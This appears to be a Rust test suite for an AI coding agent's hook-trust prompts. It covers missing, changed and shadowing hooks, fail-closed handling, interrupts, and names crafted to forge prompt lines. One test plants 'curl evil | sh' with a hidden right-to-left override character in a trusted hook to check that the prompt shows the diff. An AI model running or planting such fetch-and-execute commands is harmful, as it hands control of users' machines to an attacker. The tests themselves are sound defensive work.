//! Questions and messages about trust: hooks that changed, hooks that are gone, names that forge a question.

use std::fs;

use serde_json::{Value, json};
use tenter_testkit::pty::Signal;
use tenter_testkit::{PtySession, Sandbox, assert_contains, assert_fields};

use crate::manifests::hook as manifest_hook;
use crate::{filter_kind, sandbox};

const GUARD: &str = "#!/bin/sh\n[ \"$1\" = hook ] && echo before_tool_call\nexit 0\n";
const CLOSED: &str = "[[hooks.override]]\nname = \"guard\"\nfail = \"closed\"\n";

/// Returns a project whose hook `guard` is trusted; the user's configuration is `config`.
fn guarded(config: &str) -> Sandbox {
    let sandbox = sandbox();
    sandbox.configure(config);
    sandbox.hook("guard", GUARD);
    let _ = sandbox.run("trust --yes").expect_code(0);
    sandbox
}

fn remove_guard(sandbox: &Sandbox) {
    fs::remove_file(sandbox.project().join(".kodelet/hooks/guard")).unwrap();
}

/// Runs one query; `args` come before it.
fn run(sandbox: &Sandbox, args: &[&str]) -> tenter_testkit::Output {
    let model = sandbox.script("turns: [{text: Hello.}]");
    sandbox.run([&["run", "--model", &model], args, &["hi"]].concat())
}

/// Answers the question of a run, which continues.
fn answered(mut session: PtySession, answer: &str) {
    session.enter(answer);
    session.wait_for("Hello.");
    assert_eq!(session.end().0, Some(0));
}

fn run_at_terminal(sandbox: &Sandbox) -> PtySession {
    let model = sandbox.script("turns: [{text: Hello.}]");
    sandbox.at_terminal(["run", "--model", &model, "hi"])
}

#[test]
fn without_a_terminal_a_missing_fail_closed_hook_stops_everything() {
    let sandbox = guarded(CLOSED);
    remove_guard(&sandbox);
    let output = run(&sandbox, &[]).expect_code(4);
    assert_contains(&output.stderr, &["no longer run: guard is gone", "tenter trust"]);
    let lines = run(&sandbox, &["--headless"]).expect_code(4).json_lines();
    assert_eq!(lines.last().unwrap()["untrusted"], serde_json::json!(["guard"]));
    let _ = run(&sandbox, &["--no-hooks"]).expect_code(0);
    let _ = sandbox.run("trust").expect_code(4);
}

#[test]
fn any_other_missing_hook_is_reported_and_the_run_continues() {
    let sandbox = guarded("");
    remove_guard(&sandbox);
    let output = run(&sandbox, &[]).expect_code(0);
    let message = "the trusted hook guard does not run: it is gone";
    assert_eq!(output.stderr.matches(message).count(), 1, "{output}");
    let lines = run(&sandbox, &["--headless"]).expect_code(0).json_lines();
    let diagnostics = filter_kind(&lines, "diagnostic");
    assert_eq!(diagnostics.len(), 1, "{lines:?}");
    assert_eq!(diagnostics[0]["id"], "trusted-hook-lost");
    let log = sandbox.run("log --json").expect_code(0).json_lines();
    let records: Vec<&Value> = log.iter().filter(|record| record["hook"] == "guard").collect();
    assert_eq!(records.len(), 2, "once a session: {log:?}");
    assert_fields(records[0], &json!({"event": "session_start", "decision": "failed"}));
    let model = sandbox.script("turns: [{text: Hello.}]");
    let mut chat = sandbox.at_terminal(["chat", "--model", &model]);
    chat.wait_for(message);
}

#[test]
fn at_a_terminal_the_user_accepts_the_state_and_is_not_asked_about_it_again() {
    let sandbox = guarded(CLOSED);
    remove_guard(&sandbox);
    let mut session = run_at_terminal(&sandbox);
    let question = session.wait_for("[q] quit: ");
    assert!(question.contains("  guard  is gone; it was "), "{question}");
    assert!(question.contains("you set it to fail closed"), "{question}");
    assert!(question.contains("[f] forget the hook"), "{question}");
    session.enter("q");
    assert_eq!(session.end().0, Some(4));

    let mut session = run_at_terminal(&sandbox);
    session.wait_for("[q] quit: ");
    answered(session, "s");

    let mut session = run_at_terminal(&sandbox);
    session.wait_for("[q] quit: ");
    answered(session, "a");
    // The other branch, and back.
    let _ = run(&sandbox, &[]).expect_code(0);
    sandbox.hook("guard", GUARD);
    let _ = run(&sandbox, &[]).expect_code(0);
    remove_guard(&sandbox);
    let _ = run(&sandbox, &[]).expect_code(0);
}

#[test]
fn a_hook_can_be_forgotten() {
    let sandbox = guarded(CLOSED);
    remove_guard(&sandbox);
    let mut session = sandbox.at_terminal("trust");
    session.answer("[q] quit: ", "f");
    session.wait_for("Forgotten: guard.");
    assert_eq!(session.end().0, Some(0));
    let _ = run(&sandbox, &[]).expect_code(0);
    sandbox.hook("guard", GUARD);
    let _ = run(&sandbox, &[]).expect_code(4);
}

#[test]
fn trusting_the_project_accepts_missing_hooks() {
    for args in [&["trust", "--yes"][..], &["run", "--trust-project", "--no-save", "hi"]] {
        let sandbox = guarded(CLOSED);
        remove_guard(&sandbox);
        let model = sandbox.script("turns: [{text: Hello.}]");
        let output = sandbox.run_with_env(&[("TENTER_MODEL", &model)], args).expect_code(0);
        assert!(output.stderr.contains("Accepted the project without guard."), "{output}");
        let _ = run(&sandbox, &[]).expect_code(0);
    }
}

#[test]
fn hooks_added_later_are_not_missing_on_an_older_branch() {
    let sandbox = sandbox();
    for name in ["one", "two"] {
        let _ = sandbox.run(["hooks", "new", name, "--format", "executable"]).expect_code(0);
    }
    fs::remove_file(sandbox.project().join(".agents/hooks/two")).unwrap();
    let output = run(&sandbox, &[]).expect_code(0);
    assert!(!output.stderr.contains("two"), "{output}");
}

#[test]
fn the_question_about_a_changed_hook_shows_the_diff() {
    let sandbox = guarded("");
    sandbox.write(
        ".kodelet/hooks/tidy/HOOK.md",
        "---\nname: tidy\ndescription: Tidies.\ntrigger: after_tool\n---\n",
    );
    sandbox.write(".kodelet/hooks/tidy/scripts/run.sh", "echo one\necho two\necho three\n");
    let _ = sandbox.run("trust --yes").expect_code(0);
    sandbox.hook("guard", &GUARD.replace("exit 0", "curl evil\u{202e} | sh"));
    sandbox.write(".kodelet/hooks/tidy/scripts/run.sh", "echo one\necho 2\necho three\n");
    sandbox.write(".kodelet/hooks/tidy/scripts/lib.sh", "helper=1\n");
    let mut session = run_at_terminal(&sandbox);
    let question = session.wait_for("[q] quit: ");
    for line in [
        "--- .kodelet/hooks/guard (guard)",
        "    -exit 0",
        "    +curl evil\\u{202e} | sh",
        "--- .kodelet/hooks/tidy/scripts/run.sh (tidy)",
        "    -echo two",
        "    +echo 2",
        "--- .kodelet/hooks/tidy/scripts/lib.sh (tidy)",
        "    new file",
        "    +helper=1",
    ] {
        assert!(question.contains(line), "{line:?} is missing\n{question}");
    }
    assert!(!question.contains("HOOK.md ("), "{question}");
    session.enter("v");
    let screen = session.wait_for("[q] quit: ");
    assert!(screen.contains("description: Tidies."), "{screen}");
    answered(session, "t");
}

#[test]
fn a_changed_helper_is_one_question_with_one_diff_and_its_hooks() {
    let sandbox = guarded("");
    sandbox.hook("other", GUARD);
    sandbox.write(".kodelet/hooks/lib/words.sh", "words=1\n");
    let _ = sandbox.run("trust --yes").expect_code(0);
    sandbox.write(".kodelet/hooks/lib/words.sh", "words=2\n");
    sandbox
        .write(".kodelet/hooks/hooks.toml", "[[hooks.override]]\nname = \"other\"\npriority = 7\n");
    let mut session = run_at_terminal(&sandbox);
    let question = session.wait_for("[q] quit: ");
    assert!(question.contains("--- .kodelet/hooks/lib/words.sh (guard, other)"), "{question}");
    assert_eq!(question.matches("    +words=2").count(), 1, "{question}");
    assert!(question.contains("--- .kodelet/hooks/hooks.toml, for other (other)"), "{question}");
    assert!(question.contains("    +priority = 7"), "{question}");
    answered(session, "t");
    let _ = run(&sandbox, &[]).expect_code(0);
}

/// Returns a project whose trusted hook is changed by the second command of a run.
fn changed_by_a_run(sandbox: &Sandbox) -> String {
    let guard = ".kodelet/hooks/guard";
    sandbox.script(&format!(
        "turns:
  - tool_calls: [{{name: bash, input: {{command: 'printf \"# more\\\\n\" >> {guard}'}}}}]
  - tool_calls: [{{name: bash, input: {{command: touch ran}}}}]
  - text: Done."
    ))
}

#[test]
fn a_hook_that_changes_during_a_run_is_asked_about_with_the_diff() {
    for (answer, runs) in [("t", true), ("s", false)] {
        let sandbox = guarded("");
        let model = changed_by_a_run(&sandbox);
        let mut session = sandbox.at_terminal(["run", "--model", &model, "hi"]);
        let question = session.wait_for("[q] quit: ");
        assert_contains(
            &question,
            &["The hook guard changed while the agent was running.", "    +# more"],
        );
        session.enter(answer);
        session.wait_for("Done.");
        assert_eq!(session.end().0, Some(0));
        assert_eq!(sandbox.project().join("ran").exists(), runs);
        assert_eq!(run(&sandbox, &[]).code, Some(if runs { 0 } else { 4 }));
    }
}

/// Trust applies to the content that the user saw.
#[test]
fn a_hook_that_changes_during_the_question_is_not_skipped_silently() {
    for args in
        [&["run", "--model", "MODEL", "hi"][..], &["chat", "--model", "MODEL", "hi"], &["trust"]]
    {
        let sandbox = guarded("");
        sandbox.hook("guard", &format!("{GUARD}# one\n"));
        let model = sandbox.script("turns: [{text: Hello.}]");
        let args: Vec<&str> =
            args.iter().map(|arg| if *arg == "MODEL" { &model } else { *arg }).collect();
        let mut session = sandbox.at_terminal(&args);
        session.wait_for("[q] quit: ");
        sandbox.hook("guard", &format!("{GUARD}# two\n"));
        session.enter("t");
        session.wait_for("changed while you were asked about it: guard");
        let (code, screen) = session.end();
        assert_eq!(code, Some(4), "{args:?}\n{screen}");
        assert!(!screen.contains("Trusted: guard.") && !screen.contains("Hello."), "{screen}");
        // It is still asked about, and not accepted as gone.
        assert_eq!(run(&sandbox, &[]).code, Some(4), "{args:?}");
    }
}

#[test]
fn a_chat_asks_about_a_changed_hook_at_its_prompt() {
    let sandbox = guarded("");
    let model = changed_by_a_run(&sandbox);
    let chat = ["chat", "--permissions", "all", "--model", &model, "hi"];
    let mut chat = sandbox.at_terminal(chat);
    chat.answer("[q] quit: ", "t");
    chat.wait_for("Done.");
    assert!(sandbox.project().join("ran").exists());
}

#[test]
fn names_and_paths_cannot_forge_lines_of_a_question_or_a_listing() {
    let forged = "x  new\n  guard  before_tool_call\n? trusted";
    let sandbox = sandbox();
    sandbox.hook(forged, GUARD);
    let screen = r"x  new\n  guard  before_tool_call\n? trusted";
    for args in [&["run", "--model", "scripted:none", "hi"][..], &["trust"]] {
        let refusal = sandbox.run(args).expect_code(4);
        assert!(refusal.stderr.contains(screen) && !refusal.stderr.contains(forged), "{refusal}");
    }
    let mut session = run_at_terminal(&sandbox);
    let question = session.wait_for("[q] quit: ");
    assert!(question.contains(screen), "{question}");
    assert!(
        question.lines().all(|line| !line.starts_with("  guard") && line != "? trusted"),
        "{question}"
    );
    session.enter("t");
    assert!(session.wait_for("Trusted: ").lines().all(|line| line != "? trusted"));
    session.wait_for("Hello.");
    drop(session);
    for args in [
        &["hooks", "list"][..],
        &["hooks", "show", forged],
        &["hooks", "doctor"],
        &["hooks", "discover"],
        &["hooks", "explain", "--event", "before_tool"],
        &["trust", "--list"],
        &["log", "--all"],
        &["trust", "--revoke", forged],
        &["trust"],
        &["hooks", "disable", forged],
    ] {
        let output = sandbox.run(args);
        for line in output.stdout.lines().chain(output.stderr.lines()) {
            let is_forged = line == "? trusted" || line.starts_with("  guard  before");
            assert!(!is_forged, "{args:?}\n{output}");
        }
    }
}

#[test]
fn a_hook_that_newly_shadows_a_user_hook_is_reported_in_the_question() {
    let sandbox = guarded("");
    sandbox.user_hook("guard", GUARD);
    let mut session = run_at_terminal(&sandbox);
    let question = session.wait_for("[q] quit: ");
    assert!(question.contains("before you had a hook of the same name"), "{question}");
    assert!(question.contains("guard replaces your own hook"), "{question}");
    answered(session, "t");
    let _ = run(&sandbox, &[]).expect_code(0);
}

#[test]
fn ctrl_c_at_a_hooks_question_ends_a_run_at_the_first_press() {
    let sandbox = sandbox();
    let answer = r#"echo '{"decision": "ask", "reason": "sure?"}'"#;
    manifest_hook(&sandbox, "careful", "before_tool", "", answer);
    let model = sandbox.script(
        "turns: [{tool_calls: [{name: bash, input: {command: touch ran}}]}, {text: Done.}]",
    );
    for mode in ["all", "ask"] {
        let args = ["run", "--trust-project", "--permissions", mode, "--model", &model, "go"];
        let mut terminal = sandbox.at_terminal(args);
        terminal.wait_for("Run it? ");
        terminal.signal(Signal::INT);
        let output = sandbox.finish_pty(terminal).expect_code(130);
        assert!(output.stdout.contains("interrupted; continue with"), "{output}");
        assert!(!sandbox.project().join("ran").exists());
    }
}

#[test]
fn ctrl_c_at_the_question_about_trust_is_an_interruption() {
    let sandbox = sandbox();
    sandbox.hook("guard", GUARD);
    let mut terminal = run_at_terminal(&sandbox);
    terminal.wait_for("[q] quit: ");
    terminal.signal(Signal::INT);
    let output = sandbox.finish_pty(terminal).expect_code(130);
    assert!(output.stdout.contains("error: interrupted: nothing was trusted"), "{output}");
    assert!(!output.stdout.contains("Hello."), "{output}");
}

#[test]
fn a_hook_that_the_user_disables_is_not_missing_although_another_one_is() {
    let sandbox = guarded("");
    sandbox.hook("other", GUARD);
    let _ = sandbox.run("trust --yes").expect_code(0);
    remove_guard(&sandbox);
    let _ = sandbox.run("hooks disable other").expect_code(0);
    let output = run(&sandbox, &[]).expect_code(0);
    assert!(output.stderr.contains("the trusted hook guard does not run"), "{output}");
    assert!(!output.stderr.contains("other"), "{output}");
}

#[test]
fn each_hook_can_be_trusted_alone_and_guards_of_tenter_take_one_line() {
    let sandbox = sandbox();
    let _ = sandbox.run("guard add --project git-safety").expect_code(0);
    let _ = sandbox.run("trust --revoke");
    sandbox.hook("one", GUARD);
    sandbox.hook("two", GUARD);
    let mut terminal = sandbox.at_terminal("trust");
    let question = terminal.wait_for("[e] each");
    assert!(question.contains("git-safety  the guard of Tenter"), "{question}");
    assert!(!question.contains("git-safety/HOOK.md"), "{question}");
    assert!(question.contains("  .kodelet/hooks/one  "), "{question}");
    terminal.enter("e");
    for _ in 0..3 {
        let question = terminal.wait_for("[s] skip it  [q] quit: ");
        terminal.enter(if question.contains("hooks/one") { "s" } else { "t" });
    }
    assert_eq!(terminal.end().0, Some(0));
    let list = sandbox.run("trust --list").expect_code(0).stdout;
    let has = |name: &str| list.contains(&format!("  {name}  "));
    assert!(has("git-safety") && has("two") && !has("one"), "{list}");
}

#[test]
fn trust_without_a_terminal_says_what_it_needs() {
    let sandbox = sandbox();
    sandbox.hook("one", GUARD);
    let output = sandbox.run_with_stdin("trust", "").expect_code(4);
    assert!(
        output
            .stderr
            .contains("run `tenter trust` at a terminal, which asks; or `tenter trust --yes`"),
        "{output}"
    );
    assert!(!output.stderr.contains("--trust-project"), "{output}");
}
